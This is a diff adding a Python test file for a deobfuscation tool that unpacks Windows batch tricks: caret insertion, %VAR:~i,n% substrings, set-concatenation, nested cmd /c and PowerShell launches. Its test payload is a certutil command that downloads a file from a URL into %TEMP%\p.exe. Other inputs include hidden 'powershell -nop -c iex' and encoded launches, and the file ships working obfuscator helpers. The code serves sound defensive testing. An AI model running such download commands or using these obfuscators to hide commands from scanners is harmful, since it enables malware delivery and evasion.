@@ -1,0 +1,260 @@
+"""Batch peelers: carets, %VAR% and substrings, nested cmd /c and PowerShell launches."""
+
+from __future__ import annotations
+
+import random
+import re
+import string
+
+import pytest
+
+from tests.unit.scripts.test_peelers_languages import (
+    URL,
+    Obfuscator,
+    assert_recovers,
+    contents,
+    peel_all,
+    rewrite,
+    run,
+    stack,
+    stacks,
+)
+from wingman.core.scripts.peelers.cmd_vars import substring
+from wingman.core.scripts.types import Lang
+
+# No & in the payload: a quoted & cut into `set` pieces would need outer carets once nested.
+PAYLOAD = rf"certutil -urlcache -split -f {URL} %TEMP%\p.exe"
+_TOKENS = re.compile(r'%[^%\s"]+%|\n|"|.', re.S)
+_ENCODABLE = frozenset(string.ascii_letters + string.digits + "./:\\-_=^")
+
+
+def carets(text: str) -> tuple[str, list[str]]:
+    """Put a caret before every letter outside quotes and %references%."""
+    out: list[str] = []
+    quoted = False
+    for token in _TOKENS.findall(text):
+        if token in ('"', "\n"):
+            quoted = not quoted if token == '"' else False
+        elif len(token) == 1 and token.isalpha() and not quoted:
+            token = "^" + token
+        out.append(token)
+    return "".join(out), ["cmd_caret"]
+
+
+def substrings(text: str) -> tuple[str, list[str]]:
+    """Spell every plain character as %_k:~i,1% (or its negative twin) of one key variable."""
+    alphabet = sorted({char for char in text if char in _ENCODABLE})
+    random.Random(7).shuffle(alphabet)
+    key = "".join(alphabet)
+    out: list[str] = []
+    for count, token in enumerate(_TOKENS.findall(text)):
+        if token in key and len(token) == 1:
+            index = key.index(token)
+            spec = f"{index},1" if count % 2 else f"-{len(key) - index},1"
+            token = f"%_k:~{spec}%"
+        out.append(token)
+    return f'set "_k={key}"\n' + "".join(out), ["cmd_substring"]
+
+
+def set_concat(text: str) -> tuple[str, list[str]]:
+    """Cut every line into `set "_cN=..."` pieces, then rebuild each line as %_c0%%_c1%..."""
+    sets: list[str] = []
+    lines: list[str] = []
+    for line in text.split("\n"):
+        chunks: list[str] = []
+        for token in _TOKENS.findall(line):
+            if token == '"' or not chunks or chunks[-1] == '"' or len(chunks[-1]) >= 5:
+                chunks.append(token)
+            else:
+                chunks[-1] += token
+        names = [f"_c{len(sets) + index}" for index in range(len(chunks))]
+        sets += [f'set "{name}={chunk}"' for name, chunk in zip(names, chunks, strict=True)]
+        lines.append("".join(f"%{name}%" for name in names))
+    return "\n".join(sets + lines), ["cmd_set_concat"]
+
+
+def nested(text: str) -> tuple[str, list[str]]:
+    return 'cmd /c "' + " & ".join(text.split("\n")) + '"', ["cmd_nested"]
+
+
+OBFUSCATORS: dict[str, Obfuscator] = {
+    "caret": carets,
+    "substring": substrings,
+    "set_concat": set_concat,
+    "nested": nested,
+}
+
+
+@pytest.mark.parametrize("names", stacks(list(OBFUSCATORS)), ids="+".join)
+def test_stacked_obfuscation_is_recovered_in_order(names: tuple[str, ...]) -> None:
+    text, expected = stack(PAYLOAD, [OBFUSCATORS[name] for name in names])
+    assert_recovers(text, Lang.BATCH, expected, hidden=names != ("nested",))
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("p^o^w^e^r^s^h^e^l^l -nop", "powershell -nop"),
+        ("echo a^^b", "echo a^b"),
+        ('echo "a^b" c^d', 'echo "a^b" cd'),
+        ("echo one ^\ntwo", "echo one two"),
+        ('echo "unterminated ^x', None),
+        ("^", ""),
+        ('c^m^d /^c ^"x^" y', 'cmd /c "x" y'),
+    ],
+)
+def test_carets(text: str, expected: str | None) -> None:
+    assert rewrite("cmd_caret", text) == expected
+
+
+def test_many_carets() -> None:
+    assert rewrite("cmd_caret", "^a" * 10_000) == "a" * 10_000
+
+
+@pytest.mark.parametrize(
+    ("start", "length", "expected"),
+    [
+        (2, 3, "cde"),
+        (-3, None, "hij"),
+        (0, -2, "abcdefgh"),
+        (-4, 2, "gh"),
+        (20, None, ""),
+        (3, -20, ""),
+        (-20, 2, "ab"),
+        (0, 0, ""),
+    ],
+)
+def test_substring_follows_cmd(start: int, length: int | None, expected: str) -> None:
+    assert substring("abcdefghij", start, length) == expected
+
+
+@pytest.mark.parametrize(
+    ("reference", "expected"),
+    [
+        ("%x:~2,3%", "cde"),
+        ("%x:~-3%", "hij"),
+        ("%x:~0,-2%", "abcdefgh"),
+        ("%X:~1,1%", "b"),
+        ("%x:abc=XYZ%", "XYZdefghij"),
+        ("%x:*d=Q%", "Qefghij"),
+        ("%COMSPEC:~-7,3%", "cmd"),
+    ],
+)
+def test_substring_references(reference: str, expected: str) -> None:
+    assert rewrite("cmd_substring", f"set x=abcdefghij\necho {reference}") == (
+        f"set x=abcdefghij\necho {expected}"
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo %y:~1,1%",
+        "echo %x:~1,1%\nset x=abc",
+        "if 1==1 set x=abc\necho %x:~1,1%",
+        "set /p x=Name?\necho %x:~1,1%",
+        "set x=abc\nset /a x=1+1\necho %x:~1,1%",
+        "if exist a (\n  set x=abc\n)\necho %x:~1,1%",
+        "set x=abc\necho %x:~%",
+        "set x=abc\necho %x:~a,b%",
+        "set x=abc\necho %x:=y%",
+        "echo 100%% done %%x:~1,1%%",
+    ],
+)
+def test_substring_leaves_what_it_cannot_know(text: str) -> None:
+    assert rewrite("cmd_substring", text) is None
+
+
+def test_substring_uses_the_value_at_that_point() -> None:
+    text = "set x=abc\necho %x:~1,1%\nset x=xyz\necho %x:~1,1%"
+    assert rewrite("cmd_substring", text) == "set x=abc\necho b\nset x=xyz\necho y"
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("set a=pow\nset b=ershell\n%a%%b% -nop", "set a=pow\nset b=ershell\npowershell -nop"),
+        ('set "a=pow"\nset "b=er shell"\n%a%%b%', 'set "a=pow"\nset "b=er shell"\npower shell'),
+        ("set a=pow&set b=ershell&call %a%%b%", "set a=pow&set b=ershell&call powershell"),
+        ("set a=p^ow\necho %a%", "set a=p^ow\necho pow"),
+        ('set "a=p^ow"\necho %a%', 'set "a=p^ow"\necho p^ow'),
+        (
+            "setlocal EnableDelayedExpansion\nset a=x&echo !a!",
+            "setlocal EnableDelayedExpansion\nset a=x&echo x",
+        ),
+    ],
+)
+def test_set_concatenation(text: str, expected: str) -> None:
+    assert rewrite("cmd_set_concat", text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo %a%\nset a=1",
+        "set a=1&echo !a!",
+        "for %%i in (a b) do echo %%i",
+        "set a=\necho %a%",
+        "echo %PATH%",
+    ],
+)
+def test_set_concatenation_leaves_unknowns(text: str) -> None:
+    assert rewrite("cmd_set_concat", text) is None
+
+
+@pytest.mark.parametrize(
+    ("text", "expected", "language"),
+    [
+        ('cmd /c "echo hi & whoami"', "echo hi & whoami", None),
+        ("cmd.exe /v:on /q /c echo %x%", "echo %x%", None),
+        ("%COMSPEC% /k dir", "dir", None),
+        ('start "" cmd /c "powershell -nop -c iex"', "powershell -nop -c iex", Lang.POWERSHELL),
+        ("cmd /c echo a ^& echo b", "echo a & echo b", None),
+        ('cmd /c "echo a ^& echo b"', "echo a ^& echo b", None),
+    ],
+)
+def test_nested_cmd(text: str, expected: str, language: Lang | None) -> None:
+    found = run("cmd_nested", text)
+    assert [(item.content, item.language) for item in found] == [(expected, language)]
+    assert text[found[0].start : found[0].end].strip('"').replace("^", "") == expected.replace(
+        "^", ""
+    )
+
+
+@pytest.mark.parametrize(
+    "text", ['echo "cmd /c whoami"', "mycmd /c x", "cmd /c", 'cmd /c ""', "cmdx /c y"]
+)
+def test_nested_cmd_negative(text: str) -> None:
+    assert run("cmd_nested", text) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("@powershell -nop -w hidden -c iex", "powershell -nop -w hidden -c iex"),
+        ("start /b powershell.exe -enc AAAA & exit", "powershell.exe -enc AAAA"),
+        (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -c x", None),
+        ("call pwsh -File a.ps1", "pwsh -File a.ps1"),
+    ],
+)
+def test_powershell_launch(text: str, expected: str | None) -> None:
+    found = run("cmd_powershell", text)
+    assert [item.language for item in found] == [Lang.POWERSHELL]
+    assert found[0].content == (expected or text)
+
+
+@pytest.mark.parametrize("text", ["echo powershell is fun", 'echo "x & powershell -c y"'])
+def test_powershell_launch_negative(text: str) -> None:
+    assert contents("cmd_powershell", text) == []
+
+
+def test_caret_obfuscated_powershell_inside_cmd() -> None:
+    layers, stopped = peel_all('cmd /c "p^ow^er^shell -nop -c iex"', Lang.BATCH)
+    assert stopped is None
+    assert [layer.technique for layer in layers] == ["input", "cmd_nested", "cmd_caret"]
+    assert layers[-1].content == "powershell -nop -c iex"
+
+
+def test_dosfuscation_from_comspec() -> None:
+    text = "%COMSPEC:~-16,1%%COMSPEC:~-1%%COMSPEC:~-13,1% /c echo x"
+    assert rewrite("cmd_substring", text) == "set /c echo x"
